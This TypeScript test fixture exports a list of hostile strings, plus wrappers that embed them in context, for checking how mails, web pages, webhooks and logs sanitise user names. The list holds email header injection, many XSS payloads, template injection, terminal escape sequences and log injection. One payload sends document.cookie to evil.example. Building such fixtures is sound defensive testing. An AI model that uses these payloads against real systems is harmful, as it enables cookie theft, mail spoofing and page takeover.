/**
 * Names and messages of somebody who means harm, or only types oddly: against mails, pages, webhooks and logs (scorecard A12).
 * Whatever they ask for, they ask it of `evil.example`.
 */

export const HOSTILE: readonly string[] = [
  // Headers
  "Ana\r\nBcc: everybody@evil.example",
  "Ana\nBcc: everybody@evil.example",
  "Ana\rSubject: You have won",
  "Ana\r\n\r\n<h1>A body of its own</h1>",
  "Ana\u0000Bcc: everybody@evil.example",
  "Ana\u0085Bcc: x@evil.example\u2028Cc: y@evil.example\u2029To: z@evil.example",
  "Ana\u000bX-Evil: 1\u000cX-Worse: 2",
  "=?utf-8?Q?Ana=0D=0ABcc:_everybody@evil.example?=",
  "=?utf-8?B?QW5hDQpCY2M6IGV2ZXJ5Ym9keUBldmlsLmV4YW1wbGU=?=",
  'Ana <everybody@evil.example>, "Bob" <bob@evil.example>',
  '"Ana" <ana@evil.example>',
  "Ana, Bob; Carl: Dora (a comment) [x] \\ @",
  "undisclosed-recipients:;",
  "everybody@evil.example",
  // HTML
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="https://evil.example">Click here</a>',
  '"><svg/onload=alert(1)>',
  "'\"></a></td></table><style>*{display:none}</style>",
  "</title><script>alert(1)</script>",
  "</style><link rel=stylesheet href=//evil.example/x.css>",
  "--><iframe src=https://evil.example></iframe><!--",
  "<!--[if mso]><v:shape onload=x><![endif]-->",
  "&lt;script&gt; &amp; &quot; &#60;b&#62; &nbsp; &copy",
  "<![CDATA[<b>x</b>]]><?php echo 1 ?>",
  "javascript:alert(1)",
  "<BASE HREF=https://evil.example/><META HTTP-EQUIV=refresh CONTENT=0>",
  "<form action=https://evil.example><input name=password></form>",
  // Templates
  "{{joinUrl}}",
  "{{guestName}} {{hostName}} {{{clinicName}}}",
  "{{ unknown }} {{}} {{ {{joinUrl}} }}",
  "${process.env.HOME} <%= 1 %> #{1} %recipient.email% {% raw %}",
  "$& $1 $` $' $$",
  // Directions and odd letters
  "\u202egnp.exe\u202c \u2066x\u2069",
  "محمد بن عبد الله",
  "שלום <b>עולם</b>",
  "Dr. محمد (Ana) 12:00",
  "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 \u{1f9d1}\u200d⚕️",
  "Zoë Ångström-Müller ß ı İ ǆ ﬁ",
  "e\u0301\u0327 Z\u0334\u0335\u0336\u0337a\u0338l\u0338g\u0334o\u0334",
  "\ud800 lone \udc00 halves",
  "\ufeffAna\u200b\u200c\u200d\u2060",
  "日本語の名前と中文名字、한국어",
  // Quoted-printable and lines
  "=3D =20 =\r\n soft =E2=80=94",
  "A line that ends in a blank \nand a tab\t\nand equals=\nand a dot\n.\n..\nFrom me",
  ".",
  "--boundary--\r\n--=_Part_1\r\nContent-Type: text/html",
  `${"x".repeat(76)}=${"y".repeat(76)}`,
  "word ".repeat(2_000).trim(),
  "é".repeat(10_000),
  "W".repeat(10_000),
  // Calendars
  "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Another\r\nEND:VEVENT",
  'a;b,c\\d\\nCN="x";ROLE=CHAIR:mailto:everybody@evil.example',
  "  \t  ",
  // Logs and terminals
  "Ana\u001b[2J\u001b[31m red \u001b[0m",
  "Ana\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
  "Ana\b\b\bBob\u009b31m",
  'Ana"}\n{"level":"fatal","msg":"all is lost"}',
  '\\","admin":true,"x":"\\u0000',
  "%s %d %j %o %0d%0aX-Evil: 1",
  // Pages
  "<img src=https://evil.example/pixel.png>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
  "<video autoplay src=https://evil.example/x.mp4 onloadstart=alert(1)>",
  "<div style='background:url(https://evil.example/x.png)'>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<session-call session-id=ses_x></session-call>",
  "<drop-in-join link=https://evil.example/#x></drop-in-join>",
  "<!--?lit$1234$--><?lit$1234$>",
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
  "url(https://evil.example/x.png); } * { display: none",
  "![pixel](https://evil.example/x.png) [here](javascript:alert(1))",
  "https://evil.example/x.png www.evil.example //evil.example",
  "data:text/html,<script>alert(1)</script>",
  "java\tscript:alert(1) &#106;avascript:alert(1)",
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
  "' onload='alert(1)",
  "` onload=`alert(1)`",
  "</script><script>fetch('//evil.example')</script>",
  "__proto__",
  "constructor",
  "\ufdfd\ufdfd\ufdfd \u{1242b}\u{1242b}",
  "<BODY ONLOAD=alert(1)> \u017fcript <\u017fcript>",
  "\u00adin\u00advi\u00adsi\u00adble \u3164 \u2800",
];

/** Where a text may stand within another, so that another rule may catch it, or none. */
const SETTINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Dr. ${text} and family`,
  (text) => `${text}${text}`,
  (text) => `"${text}"`,
  (text) => `'>${text}`,
  (text) => `&lt;${text}&gt;`,
  (text) => `א ${text} ב`,
];

/** The same in the middle of an ordinary text. */
export const IN_WORDS: readonly string[] = HOSTILE.filter((text) => text.length < 200).map(SETTINGS[1]!);

/** All different, each at most `max` long, in every setting. */
export function hostileTexts(max: number): string[] {
  return [...new Set(SETTINGS.flatMap((within) => HOSTILE.map(within)))].filter((text) => text.length <= max);
}
